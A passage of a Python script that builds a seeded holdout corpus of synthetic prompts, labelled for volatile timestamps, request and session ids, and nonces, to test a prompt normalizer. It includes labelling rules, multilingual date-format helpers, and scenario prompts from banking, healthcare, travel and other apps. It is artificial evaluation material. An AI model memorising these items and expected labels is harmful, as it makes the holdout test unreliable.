"""Build `prompt_normalizer/corpus/holdout3.jsonl`, a further labelled corpus kept as a clean holdout.

    python tests/normalizer/make_holdout3.py

What it is: 240 prompts, 131 of them carrying volatile fields (the current time, request / trace /
session / message ids, nonces and session tokens that a program puts into a prompt per request) and
109 hard negatives in which every date, time and id is content or stable. 101 positive and 83
negative scenarios are written one by one; a seeded family on top puts one or two fields into
application scaffolds at twelve positions (30 cases), and another puts date-like stable metadata
next to user messages full of content dates and ids (26 cases). Each case gives the input, the spans a perfect normalizer would move, and the expected output.

How it was written: by hand, without reading the detectors, their tests, the corpora they were tuned
on or the cases of the earlier holdouts; only `make_holdout.py` was read, for its labelling rules and
its machinery (`Gen`, `Draft`, `v`, `resolve`, `expected_of`, `dump` and the value formats), which are
imported, not copied. The scenarios are new and come from application categories and their prompt
scaffolds: e-commerce search and recommendation (Algolia `queryID`), banking and insurance chatbots,
healthcare scheduling (HL7 v2 MSH-7 / MSH-10, FHIR searchset bundles), legal intake, HR and
recruiting screeners, real-estate listing writers, travel booking (GDS session headers),
customer-success email drafters, SQL and BI copilots, log-analysis and SIEM / EDR copilots (Splunk
sids, Sentinel, Windows event XML), game NPC dialogue engines, tutors with LMS metadata (Canvas LTI
launches, Moodle `sesskey`), localisation pipelines (TMS jobs, XLIFF, gettext headers), document QA
over PDFs, meeting summarizers (Zoom / Teams / Meet), call centres (Amazon Connect, Genesys,
Twilio), IoT (MQTT, AWS IoT shadows, Azure IoT Hub), MLOps (MLflow, W&B), data pipelines (Airflow
`run_id` / `ts` / `execution_date`, dbt `invocation_id`), robotics (ROS 2 clocks and header stamps),
market data (FIX 52 / 60 / 262), mail (Gmail `historyId`, IMAP), chat platforms (Teams activities,
Telegram updates, WhatsApp `wamid`), payments (Adyen, PayPal, Braintree), feature flags and A/B
assignment headers, CDN and edge headers (Vercel, Netlify, Fly), Postgres / MySQL / Redis logs,
macOS unified log and Android logcat; value shapes that `make_holdout.Gen` lacks (HL7 and FIX
timestamps, .NET ticks, FILETIME, OLE Automation dates, ROS `Time`, Java / Ruby / PHP / Postgres /
Swift / Rust renderings of now, dates spelt out in ten languages) are added by a subclass. The output
is deterministic (seeded). Once written and hashed it is frozen: never regenerate it to fit results.

Labelling rules: exactly rules 1-4 of the module docstring of `tests/normalizer/make_holdout.py`
(what is volatile, what is not, what the span is, how `expected` is made). Clarifications made here:

* Envelope values that a program attaches to the data it puts in the prompt are volatile when they
  are per request: the MSH-7 / MSH-10 of the HL7 message that triggered a scheduling request, the
  `id` and `timestamp` of a FHIR searchset bundle, the `timestamp` and `clientToken` of a device
  shadow fetched for the request, FIX 52 SendingTime and 262 MDReqID of a market-data snapshot, a
  Gmail `historyId` at sync time. The same kinds of values inside a message, event, log or payload the
  user pastes or asks about are content (rule 2), and so is a resource's own `meta.lastUpdated`.
* An Airflow run's logical date (`ts`, `execution_date`) and its `run_id`, a dbt `invocation_id`,
  an MLflow / W&B run id of the harness run that renders the prompt: per run, hence volatile.
* The start time of the current session or contact (Amazon Connect `InitiationTimestamp`, a Genesys
  `startTime`, a login time) is volatile like a conversation-start time; session keys and launch
  nonces (Moodle `sesskey`, GDS security tokens, LTI `oauth_nonce`) count as tokens / nonces.
* Stable per user or per deployment, not volatile: Telegram `chat.id`, WhatsApp `wa_id`, Canvas
  course / user ids, ATS candidate and requisition ids, Algolia `userToken`, LaunchDarkly user keys,
  sticky experiment assignments, tenant / org / subscription ids, device ids, `Member since` dates,
  `Braintree-Version` and other API versions that look like dates, prompt revision dates.
* Exotic clocks (.NET ticks, Windows FILETIME, OLE Automation dates, ROS `Time(nanoseconds=...)`)
  are "the current time in any format". In-game clocks and authored dates (due dates, renewal
  dates, meeting dates of the transcript being summarised) are not volatile and are not used as
  positives.
* Where one line holds several volatile fields, each is its own inline span; a key = value line in
  INI / TOML / properties that holds one field alone is a whole-line span; a [bracketed] value is
  cut with its brackets, a phrase with its preposition ("at ...", "on ...").
* Cue lines that end positives are ones rule 4's machinery (`make_holdout._CUE_LINE`) recognises,
  so `expected` never depends on reading a cue in another script: prompts written in Cyrillic, CJK
  or Hangul end with the user's message instead.
* Timestamps of earlier turns in a transcript are not used in positives (they stay the same from one
  request to the next); only the last user message carries per-request metadata.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from make_holdout import (
    DAYS,
    DAYS_LONG,
    IST,
    JST,
    MONTHS,
    MONTHS_LONG,
    WET,
    Draft,
    Gen,
    assemble,
    clf,
    ctime,
    dotnet_o,
    epoch_ms,
    epoch_s,
    epoch_us,
    go_string,
    http_date,
    iso_week,
    js_tostring,
    rfc3339,
    unix_date,
    v,
    windows_general,
    write,
)

SEED = 20261203
OUT = Path(__file__).resolve().parents[2] / "prompt_normalizer" / "corpus" / "holdout3.jsonl"

WEST = timezone(timedelta(hours=1), "WEST")
GMT = timezone(timedelta(0), "GMT")
BST = timezone(timedelta(hours=1), "BST")
PST = timezone(timedelta(hours=-8), "PST")
PDT = timezone(timedelta(hours=-7), "PDT")
BRT = timezone(timedelta(hours=-3), "BRT")
SGT = timezone(timedelta(hours=8), "SGT")
KST = timezone(timedelta(hours=9), "KST")
MSK = timezone(timedelta(hours=3), "MSK")
CST_CN = timezone(timedelta(hours=8), "CST")
AEST = timezone(timedelta(hours=10), "AEST")
AEDT = timezone(timedelta(hours=11), "AEDT")
B36 = "0123456789abcdefghijklmnopqrstuvwxyz"
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

FR_DAYS = ["lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche"]
FR_MONTHS = ["janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre", "octobre",
             "novembre", "décembre"]
DE_DAYS = ["Montag", "Dienstag", "Mittwoch", "Donnerstag", "Freitag", "Samstag", "Sonntag"]
DE_MONTHS = ["Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September", "Oktober",
             "November", "Dezember"]
ES_DAYS = ["lunes", "martes", "miércoles", "jueves", "viernes", "sábado", "domingo"]
ES_MONTHS = ["enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre", "octubre",
             "noviembre", "diciembre"]
PT_DAYS = ["segunda-feira", "terça-feira", "quarta-feira", "quinta-feira", "sexta-feira", "sábado", "domingo"]
PT_MONTHS = ["janeiro", "fevereiro", "março", "abril", "maio", "junho", "julho", "agosto", "setembro", "outubro",
             "novembro", "dezembro"]
IT_DAYS = ["lunedì", "martedì", "mercoledì", "giovedì", "venerdì", "sabato", "domenica"]
IT_MONTHS = ["gennaio", "febbraio", "marzo", "aprile", "maggio", "giugno", "luglio", "agosto", "settembre",
             "ottobre", "novembre", "dicembre"]
NL_DAYS = ["maandag", "dinsdag", "woensdag", "donderdag", "vrijdag", "zaterdag", "zondag"]
NL_MONTHS = ["januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus", "september", "oktober",
             "november", "december"]
PL_DAYS = ["poniedziałek", "wtorek", "środa", "czwartek", "piątek", "sobota", "niedziela"]
PL_MONTHS_GEN = ["stycznia", "lutego", "marca", "kwietnia", "maja", "czerwca", "lipca", "sierpnia", "września",
                 "października", "listopada", "grudnia"]
RU_MONTHS_GEN = ["января", "февраля", "марта", "апреля", "мая", "июня", "июля", "августа", "сентября", "октября",
                 "ноября", "декабря"]
JA_DAYS = ["月", "火", "水", "木", "金", "土", "日"]
ZH_DAYS = ["星期一", "星期二", "星期三", "星期四", "星期五", "星期六", "星期日"]
KO_DAYS = ["월요일", "화요일", "수요일", "목요일", "금요일", "토요일", "일요일"]


# --- value formats that make_holdout.py lacks ---------------------------------------------------

def _off(t: datetime, colon: bool = False) -> str:
    minutes = int((t.utcoffset() or timedelta(0)).total_seconds() // 60)
    sign = "-" if minutes < 0 else "+"
    h, m = divmod(abs(minutes), 60)
    return f"{sign}{h:02d}:{m:02d}" if colon else f"{sign}{h:02d}{m:02d}"


def hl7_ts(t: datetime) -> str:
    """HL7 v2 DTM with seconds and offset (MSH-7)."""
    return f"{t:%Y%m%d%H%M%S}{_off(t)}"


def fix_ts(t: datetime) -> str:
    """FIX UTCTimestamp with milliseconds (tags 52, 60)."""
    u = t.astimezone(UTC)
    return f"{u:%Y%m%d-%H:%M:%S}.{u.microsecond // 1000:03d}"


def ros2_time(t: datetime, ns: int) -> str:
    """`str(node.get_clock().now())` in rclpy."""
    return f"Time(nanoseconds={epoch_us(t) * 1000 + ns}, clock_type=ROS_TIME)"


def dotnet_ticks(t: datetime) -> int:
    """`DateTime.UtcNow.Ticks`: 100 ns since 0001-01-01."""
    return epoch_us(t) * 10 + 621_355_968_000_000_000


def filetime(t: datetime) -> int:
    """Windows FILETIME: 100 ns since 1601-01-01."""
    return epoch_us(t) * 10 + 116_444_736_000_000_000


def oadate(t: datetime) -> str:
    """OLE Automation date (Excel `NOW()` as a number), local wall time."""
    wall = t.replace(tzinfo=None) - datetime(1899, 12, 30)
    return f"{wall.days + wall.seconds / 86400:.8f}"


def java_date(t: datetime) -> str:
    """`new java.util.Date().toString()`."""
    return f"{DAYS[t.weekday()]} {MONTHS[t.month - 1]} {t.day:02d} {t:%H:%M:%S} {t.tzname()} {t.year}"


def ruby_time(t: datetime) -> str:
    """`Time.now.to_s`."""
    return f"{t:%Y-%m-%d %H:%M:%S} {_off(t)}"


def php_r(t: datetime) -> str:
    """PHP `date('r')`."""
    return f"{DAYS[t.weekday()]}, {t.day:02d} {MONTHS[t.month - 1]} {t.year} {t:%H:%M:%S} {_off(t)}"


def pg_now(t: datetime) -> str:
    """PostgreSQL `now()` as text."""
    off = _off(t, True)
    return f"{t:%Y-%m-%d %H:%M:%S}.{t.microsecond:06d}{off[:3] if off.endswith(':00') else off}"


def mssql_now(t: datetime) -> str:
    """SQL Server `GETDATE()`."""
    return f"{t:%Y-%m-%d %H:%M:%S}.{t.microsecond // 1000:03d}"


def swift_now(t: datetime) -> str:
    """Swift `Date().description`."""
    u = t.astimezone(UTC)
    return f"{u:%Y-%m-%d %H:%M:%S} +0000"


def chrono_utc(t: datetime, ns: int) -> str:
    """Rust chrono `Utc::now()` Display."""
    u = t.astimezone(UTC)
    return f"{u:%Y-%m-%d %H:%M:%S}.{u.microsecond:06d}{ns:03d} UTC"


def java_ldt(t: datetime) -> str:
    """Java `LocalDateTime.now().toString()` (microsecond clock)."""
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond:06d}"


def dotnet_u(t: datetime) -> str:
    """.NET `ToString("u")`, universal sortable."""
    return f"{t.astimezone(UTC):%Y-%m-%d %H:%M:%S}Z"


def py_time(t: datetime, tail: str) -> str:
    """`time.time()` printed as a float."""
    return f"{epoch_s(t)}.{t.microsecond:06d}{tail}".rstrip("0")


def apache_err(t: datetime) -> str:
    """Apache error-log time stamp."""
    return f"[{DAYS[t.weekday()]} {MONTHS[t.month - 1]} {t.day:02d} {t:%H:%M:%S}.{t.microsecond:06d} {t.year}]"


def airflow_ts(t: datetime) -> str:
    return f"{t.astimezone(UTC):%Y-%m-%dT%H:%M:%S}+00:00"


def us_short(t: datetime) -> str:
    h = t.hour % 12 or 12
    return f"{t.month:02d}/{t.day:02d}/{t.year} {h}:{t:%M} {'PM' if t.hour >= 12 else 'AM'}"


def eu_short(t: datetime) -> str:
    return f"{t:%d/%m/%Y %H:%M}"


def de_dot(t: datetime) -> str:
    return f"{t:%d.%m.%Y %H:%M:%S}"


def fr_long(t: datetime) -> str:
    return f"{FR_DAYS[t.weekday()]} {t.day} {FR_MONTHS[t.month - 1]} {t.year} à {t:%H:%M}"


def de_long(t: datetime) -> str:
    return f"{DE_DAYS[t.weekday()]}, {t.day}. {DE_MONTHS[t.month - 1]} {t.year}, {t:%H:%M} Uhr"


def es_long(t: datetime) -> str:
    return f"{ES_DAYS[t.weekday()]}, {t.day} de {ES_MONTHS[t.month - 1]} de {t.year}, {t:%H:%M}"


def pt_long(t: datetime) -> str:
    return f"{PT_DAYS[t.weekday()]}, {t.day} de {PT_MONTHS[t.month - 1]} de {t.year}, {t:%H:%M}"


def it_long(t: datetime) -> str:
    return f"{IT_DAYS[t.weekday()]} {t.day} {IT_MONTHS[t.month - 1]} {t.year}, ore {t:%H:%M}"


def nl_long(t: datetime) -> str:
    return f"{NL_DAYS[t.weekday()]} {t.day} {NL_MONTHS[t.month - 1]} {t.year} {t:%H:%M}"


def pl_long(t: datetime) -> str:
    return f"{PL_DAYS[t.weekday()]}, {t.day} {PL_MONTHS_GEN[t.month - 1]} {t.year} {t:%H:%M}"


def ru_long(t: datetime) -> str:
    return f"{t.day} {RU_MONTHS_GEN[t.month - 1]} {t.year} г., {t:%H:%M}"


def ja_long(t: datetime) -> str:
    return f"{t.year}年{t.month}月{t.day}日({JA_DAYS[t.weekday()]}) {t.hour}時{t.minute:02d}分"


def zh_long(t: datetime) -> str:
    return f"{t.year}年{t.month}月{t.day}日 {ZH_DAYS[t.weekday()]} {t:%H:%M}"


def ko_long(t: datetime) -> str:
    h = t.hour % 12 or 12
    return f"{t.year}년 {t.month}월 {t.day}일 {KO_DAYS[t.weekday()]} {'오후' if t.hour >= 12 else '오전'} {h}:{t:%M}"


def en_long(t: datetime) -> str:
    return f"{DAYS_LONG[t.weekday()]} {t.day} {MONTHS_LONG[t.month - 1]} {t.year}"


class Gen3(Gen):
    """`make_holdout.Gen` with the moments and id shapes this corpus needs besides."""

    def moment_in(self, summer: timezone, winter: timezone) -> datetime:
        t = self.moment()
        return t.astimezone(summer if 4 <= t.month <= 10 else winter)

    def moment_pt(self) -> datetime:
        return self.moment_in(WEST, WET)

    def moment_uk(self) -> datetime:
        return self.moment_in(BST, GMT)

    def moment_pacific(self) -> datetime:
        return self.moment_in(PDT, PST)

    def moment_au(self) -> datetime:
        t = self.moment()
        return t.astimezone(AEST if 4 <= t.month <= 9 else AEDT)

    def b36(self, n: int) -> str:
        return "".join(self.rng.choice(B36) for _ in range(n))

    def upper(self, n: int) -> str:
        return "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(n))

    def b64(self, n: int) -> str:
        return "".join(self.rng.choice(B64) for _ in range(n))

    def vercel_id(self, t: datetime) -> str:
        edge = self.pick(["fra1", "cdg1", "lhr1", "gru1", "iad1", "hnd1"])
        return f"{edge}::{self.pick(['iad1', 'fra1', 'sfo1'])}::{self.b36(5)}-{epoch_ms(t)}-{self.hex(12)}"

    def fly_request_id(self, t: datetime) -> str:
        return f"{self.ulid(t)}-{self.pick(['ams', 'lhr', 'fra', 'gru', 'sin'])}"

    def splunk_sid(self, t: datetime) -> str:
        return f"{epoch_s(t)}.{self.small(1000, 99999)}"

    def wamid(self) -> str:
        return "wamid.HBgM" + self.b64(46) + "=="

    def sid(self, prefix: str) -> str:
        return prefix + self.hex(32)

    def guid_braces(self) -> str:
        return "{" + self.uuid4().upper() + "}"

    def wandb_id(self) -> str:
        return self.b36(8)


# --- positives ----------------------------------------------------------------------------------

POSITIVES: list[Callable[[Gen3], Draft]] = []
NEGATIVES: list[Callable[[Gen3], Draft]] = []


def positive(fn: Callable[[Gen3], Draft]) -> Callable[[Gen3], Draft]:
    POSITIVES.append(fn)
    return fn


def negative(fn: Callable[[Gen3], Draft]) -> Callable[[Gen3], Draft]:
    NEGATIVES.append(fn)
    return fn


def neg(source: str, tags: list[str], text: str) -> Draft:
    return Draft(text, f"holdout3:negative:{source}", ["hard_negative", *tags])


# e-commerce search and recommendation

@positive
def _algolia_search_assistant(g: Gen3) -> Draft:
    return Draft(f"""You are the search assistant of Oficina Verde, a Portuguese garden-tools shop. Rewrite the shopper's
query into at most three search refinements and explain each in one short line.

Search context:
index: products_pt_v3
hitsPerPage: 24
userToken: anon-7f3c2a19
{v('request_id', 'queryID: ' + g.hex(32))}
facetFilters: category:pruning

Shopper: tesoura de poda para roseiras, algo leve
Assistant:""", "holdout3:ecommerce:algolia", ["header_block", "algolia_query_id", "hex32", "stable_neighbours",
                                              "cue_line"])


@positive
def _reco_carousel_json(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Write three carousel titles (max 40 characters each) for the recommendations below. Playful, no
exclamation marks.

{{
  "placement": "pdp_similar_items",
  "model": "two-tower-v7",
  {v('datetime', '"served_at": "' + rfc3339(t, 3) + '",')}
  {v('request_id', '"rec_request_id": "' + g.uuid4() + '",')}
  "items": ["Trail shoe Ardo 2", "Merino socks (3-pack)", "Gaiter Vento"]
}}
""", "holdout3:ecommerce:recommendations", ["json_block", "rfc3339", "uuid", "stable_neighbours", "tail"])


@positive
def _storefront_html_comment(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""{v('request_id', '<!-- storefront-request: ' + g.hex(24) + ' -->')}
{v('datetime', '<!-- rendered: ' + php_r(t) + ' -->')}
<p>Rewrite the product blurb below for the Christmas landing page. Keep the material facts (oak,
hand-oiled, 42 x 28 cm) and stay under 50 words.</p>
<p>Blurb: Solid oak serving board, hand-oiled, 42 x 28 cm, juice groove on one side.</p>
""", "holdout3:ecommerce:storefront", ["head", "html_comment", "php_date_r", "hex24"])


# banking and insurance

@positive
def _bank_authenticated_block(g: Gen3) -> Draft:
    t = g.moment_pt()
    return Draft(f"""Assistente digital do Banco Atlântico. Responde em português europeu, com frases curtas. Nunca peças o
PIN, o código do cartão nem códigos de confirmação.

Cliente autenticado:
Segmento: Particulares Premium
Balcão: 0412 Lisboa Baixa
N.º de cliente: 88120455
{v('datetime', 'Autenticado em: ' + f'{t:%d-%m-%Y %H:%M:%S}')}
{v('session_id', 'Sessão do canal: ' + g.uuid4())}

Cliente: Quero aumentar o limite diário do MB WAY para 1000 euros.
Assistente:""", "holdout3:banking:session-block", ["header_block", "non_english", "dmy_datetime", "uuid",
                                                 "stable_neighbours", "session_start"])


@positive
def _insurance_fnol_genesys(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""You assist Harbourside Insurance agents during first-notice-of-loss calls. Suggest the next question to
ask and keep a running list of missing facts. Do not give coverage decisions.

Genesys Cloud interaction:
{v('session_id', 'conversationId: ' + g.uuid4())}
queue: Claims-Motor-UK
participant.purpose: customer
{v('datetime', 'startTime: ' + rfc3339(t.astimezone(UTC), 3))}
divisionId: 8c1e4b7a-2f3d-4a9e-b5c6-0d1e2f3a4b5c

Transcript so far:
Caller: Someone reversed into me in the Tesco car park in Bridgwater about an hour ago.
Agent: I'm sorry to hear that. Is anyone hurt?
Caller: No, just the bumper and a headlight.

Next question:""", "holdout3:insurance:genesys", ["header_block", "uuid", "rfc3339", "stable_neighbours",
                                                  "stable_uuid_neighbour", "cue_line"])


@positive
def _insurance_quote_sentence(g: Gen3) -> Draft:
    t = g.moment_eu()
    when = f"{DAYS_LONG[t.weekday()]} {t.day} {MONTHS_LONG[t.month - 1]} {t.year} at {t:%H:%M} {t.tzname()}"
    return Draft(f"""You explain home-insurance quotes from Lindqvist Försäkring to customers in plain English. {v('datetime', 'This quote was requested on ' + when + '.')} Quotes
are valid for 30 days. Mention the excess and the two largest cover items, nothing else.

Quote: Buildings SEK 4,200,000, contents SEK 650,000, excess SEK 3,000, annual premium SEK 5,480.

Customer: Is this a good deal?
Assistant:""", "holdout3:insurance:quote", ["inline_sentence", "long_date", "head"])


# healthcare scheduling

@positive
def _hl7_siu_trigger(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""You help the front desk of Cedar Valley Family Medicine offer appointment slots. Never give medical
advice; for urgent symptoms tell the patient to call 911.

Inbound trigger (HL7 v2 interface):
MSH-3 (sending application): EPICADT
MSH-9 (message type): SIU^S12
{v('datetime', 'MSH-7 (message date/time): ' + hl7_ts(t))}
{v('request_id', 'MSH-10 (message control id): ' + g.digits(9))}
MSH-12 (version): 2.5.1

Open slots for Dr. Ramos: Tue 09:20, Tue 15:40, Thu 11:00.

Patient: I need a follow-up for my blood pressure check, mornings are best.
Assistant:""", "holdout3:healthcare:hl7-trigger", ["header_block", "hl7_ts", "decimal_id", "stable_neighbours",
                                                   "version_neighbour"])


@positive
def _fhir_slot_bundle(g: Gen3) -> Draft:
    t = g.moment_eu()
    day = (t + timedelta(days=2)).date()
    off = _off(t + timedelta(days=2), True)
    return Draft(f"""Offer the patient the two earliest free physiotherapy slots from this FHIR search result, in
German, with weekday and time. Do not mention any other information.

{{
  "resourceType": "Bundle",
  {v('request_id', '"id": "' + g.uuid4() + '",')}
  "type": "searchset",
  {v('datetime', '"timestamp": "' + rfc3339(t, 3) + '",')}
  "total": 3,
  "entry": [
    {{"resource": {{"resourceType": "Slot", "status": "free", "start": "{day}T08:30:00{off}"}}}},
    {{"resource": {{"resourceType": "Slot", "status": "free", "start": "{day}T10:00:00{off}"}}}},
    {{"resource": {{"resourceType": "Slot", "status": "free", "start": "{day}T16:15:00{off}"}}}}
  ]
}}

Patient: Wann kann ich zur Physiotherapie kommen?
Antwort:""", "holdout3:healthcare:fhir-bundle", ["json_block", "uuid", "rfc3339", "dates_in_content_neighbour",
                                                 "cue_line"])


@positive
def _clinic_reminder_es(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Eres el asistente de citas de la Clínica Dental Sonrisa (Sevilla). Redacta recordatorios por SMS de
menos de 160 caracteres, sin consejos médicos.
{v('datetime', 'Fecha y hora actual: ' + f'{t.day}/{t.month}/{t.year} {t:%H:%M}')}

Cita: Lucía Moreno, limpieza dental, viernes 11 de diciembre a las 17:30, Dra. Ortega.
SMS:""", "holdout3:healthcare:sms-reminder", ["system_tail", "non_english", "dmy_datetime", "cue_line"])


# legal intake

@positive
def _legal_intake_matter(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""Practice area: Employment
Jurisdiction: England & Wales
{v('session_id', 'Intake session: INT-' + g.ulid(t))}
{v('datetime', 'Opened: ' + windows_general(t))}
Referral source: website

You are the intake assistant of Harrow & Peel LLP. Gather the facts of the prospective client's
matter (dates, employer, what happened, documents held) and never say whether they have a claim.

Prospective client: I was dismissed last Friday after raising a complaint about unpaid overtime.
Assistant:""", "holdout3:legal:intake", ["head", "header_block", "ulid", "windows_datetime", "stable_neighbours"])


@positive
def _legal_conflict_xml(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""<intake firm="Okafor Brandt PC" channel="web" {v('datetime', 'received="' + rfc3339(t) + '"')} {v('request_id', 'ref="' + g.nanoid() + '"')} lang="en">
List every person and company named by the prospective client so that the conflicts team can run
a check. Output one name per line, then the role in brackets.

Client statement: My landlord, Westgate Holdings LLC, and its manager Dana Pruitt kept my deposit
after I moved out of 14B Elm Street. My roommate Carlos Vega is a witness.
</intake>""", "holdout3:legal:conflict-check", ["xml_attr", "two_in_line", "rfc3339", "nanoid", "head"])


# HR and recruiting

@positive
def _ats_screener_yaml(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""---
requisition: REQ-2291
role: Backend Engineer (Go)
stage: phone_screen
candidate_id: cand_40318
{v('datetime', 'screened_at: ' + rfc3339(t))}
{v('run_id', 'screening_run: ' + g.uuid7(t))}
---
Score the CV against the must-have criteria (Go in production, PostgreSQL, on-call experience) from
0 to 3 each, quoting the CV line that justifies each score.

CV:
2021-2026  Senior Engineer, Parcelfy (Lisbon) - Go services for label printing, PostgreSQL 14, on-call
           rotation every 6 weeks.
2017-2021  Engineer, Lumen Bank - Java, Oracle.
""", "holdout3:hr:ats-screener", ["yaml_block", "front_matter", "rfc3339", "uuid7", "stable_neighbours",
                                  "dates_in_content_neighbour"])


@positive
def _teams_hr_activity(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""You are PeopleBot in Microsoft Teams for Fabrikam Iberia. Answer HR policy questions from the handbook
and give the intranet link. Address the employee by first name.
channelId: msteams
tenant.id: 3c9a1f2e-6b7d-4e8f-9a0b-1c2d3e4f5a6b
{v('message_id', 'activity.id: ' + str(epoch_ms(t)))}
{v('datetime', 'activity.localTimestamp: ' + rfc3339(t, 7))}
from.name: Marta Gil

Marta: Can I carry over unused holiday days into next year?
PeopleBot:""", "holdout3:hr:teams-activity", ["system_tail", "header_block", "epoch_ms", "rfc3339",
                                              "stable_uuid_neighbour", "stable_neighbours"])


@positive
def _hr_interview_scheduler_de(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Du koordinierst Vorstellungsgespräche für die Stadtwerke Kassel. Schlage zwei Termine aus den freien
Zeiten vor und formuliere eine kurze, höfliche E-Mail an die Bewerberin.
{v('datetime', 'Zeitstempel der Anfrage: ' + de_long(t))}
Stelle: Sachbearbeitung Energieabrechnung (m/w/d), Kennziffer 2026-114

Freie Zeiten: Di 10:00, Di 14:30, Mi 09:00
Bewerberin: Frau Yilmaz
Entwurf:""", "holdout3:hr:interview-scheduler", ["system_tail", "non_english", "de_long_datetime", "unknown_label",
                                                "cue_line"])


# real estate

@positive
def _listing_writer_footer(g: Gen3) -> Draft:
    t = g.moment_pacific()
    return Draft(f"""Write a listing description of 120-150 words. Lead with the light and the garden, mention the school
district once, and do not use the words "stunning" or "must-see".

MLS#: ML81977342
Address: 2211 Alder Court, San Mateo, CA 94403
Beds/Baths: 3/2 | 1,640 sq ft | Lot 6,098 sq ft | Built 1958, remodeled 2019
List price: $1,849,000
Open house: Sat 1-4 pm, Sun 1-4 pm

Drafted {v('datetime', 'on ' + us_short(t) + ' ' + (t.tzname() or ''))} by listing-studio 4.1 {v('request_id', 'job ' + g.ksuid(t))} for agent #2210
""", "holdout3:real-estate:listing", ["footer", "tail", "two_in_line", "us_datetime", "ksuid",
                                      "dates_in_content_neighbour"])


@positive
def _rental_listing_nl(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Je schrijft huuradvertenties voor Makelaardij De Gracht. Zakelijk, hooguit 100 woorden, noem
energielabel en servicekosten.
{v('request_id', 'Aanvraag-ID: ' + g.uuid4())}
{v('datetime', 'Tijdstip: ' + nl_long(t))}

Woning: Bloemgracht 88-II, 62 m², 2 kamers, energielabel C, huur EUR 1.950, servicekosten EUR 85.
Advertentie:""", "holdout3:real-estate:rental-nl", ["system_tail", "non_english", "nl_long_datetime", "uuid",
                                                    "unknown_label", "cue_line"])


# travel booking

@positive
def _gds_session_header(g: Gen3) -> Draft:
    return Draft(f"""Travel desk assistant for Nordvik Consulting. Book within policy: economy on flights under 6 hours,
refundable fares only when the trip is not yet approved.

GDS session:
OfficeId: OSLN12345
{v('session_id', 'SessionId: ' + g.upper(11))}
SequenceNumber: 1
{v('token', 'SecurityToken: ' + g.b36(28).upper())}
Currency: NOK

Traveller: I need Oslo to Munich on Tuesday morning, back Thursday evening.
Assistant:""", "holdout3:travel:gds-session", ["header_block", "session_token", "stable_neighbours"])


@positive
def _hotel_agent_fr(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""{v('datetime', 'Horodatage : ' + fr_long(t))}
Vous êtes l'agent de réservation de l'Hôtel des Remparts à Carcassonne. Répondez en français, avec
courtoisie, et proposez toujours la chambre la moins chère disponible d'abord.

Chambres : Classique (89 EUR), Supérieure vue remparts (129 EUR), Suite (210 EUR).

Client : Avez-vous une chambre pour deux nuits à partir de vendredi, avec parking ?
Agent :""", "holdout3:travel:hotel-fr", ["head", "non_english", "fr_long_datetime", "unknown_label", "price_neighbour"])


@positive
def _rail_agent_it(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Sei l'assistente di viaggio di Ferrovie Lago. Rispondi in italiano, indica sempre il binario se lo
conosci e non inventare orari.
{v('session_id', 'Sessione n. ' + g.digits(10))}
{v('datetime', 'Ora attuale: ' + it_long(t))}
Canale: app

Viaggiatore: C'è ancora un treno per Como stasera dopo le 22?
Assistente:""", "holdout3:travel:rail-it", ["system_tail", "header_block", "non_english", "it_long_datetime",
                                            "decimal_id", "stable_neighbours"])


# customer-success email drafting

@positive
def _cs_crm_snapshot(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""Draft a check-in email from the customer-success manager to the customer's admin. Mention one usage
win and one risk, propose a 30-minute call, and keep it under 130 words.

CRM snapshot:
Account: Brightwater Logistics
ARR: USD 84,000
Renewal date: 2027-03-31
Health score: 72 (down from 81)
Seats used: 212 of 250
{v('datetime', 'Snapshot taken: ' + http_date(t))}
{v('request_id', 'HubSpot request: ' + g.uuid4())}

Email:""", "holdout3:customer-success:crm-snapshot", ["header_block", "http_date", "uuid", "stable_neighbours",
                                                      "authored_date_neighbour", "cue_line"])


@positive
def _cs_salesforce_ctx_line(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You write renewal reminder emails for Quillmate account managers. Friendly, specific, no discounts
unless the notes mention one.
ctx: org=00D5g000004XyZ1 user=0055g00000AbCdE {v('nonce', 'nonce=' + g.b64url(12))} {v('epoch', 'ts=' + str(epoch_s(t)))} locale=en_GB

Account notes: Renewal on 15 January. Champion (Priya) moved to a new team; new admin is Tom Hale.
Email:""", "holdout3:customer-success:salesforce", ["key_value_inline", "two_in_line", "nonce", "epoch_s",
                                                    "stable_neighbours"])


# SQL and BI copilots

@positive
def _bi_query_tag_json(g: Gen3) -> Draft:
    return Draft(f"""You write Snowflake SQL for the Kinetic analytics warehouse. Use only the tables listed, qualify
every column, and set the session query tag exactly as given before the query.

Query tag: {{"app": "bi-copilot", {v('request_id', '"request_id": "' + g.uuid4() + '",')} "team": "finance"}}

Tables: ANALYTICS.FCT_ORDERS(order_id, customer_id, ordered_at, net_amount_eur),
ANALYTICS.DIM_CUSTOMERS(customer_id, country, segment)

Question: net revenue per country for the last full quarter, largest first
SQL:""", "holdout3:sql-bi:query-tag", ["json_inline", "uuid", "cue_line"])


@positive
def _sql_copilot_comment_header(g: Gen3) -> Draft:
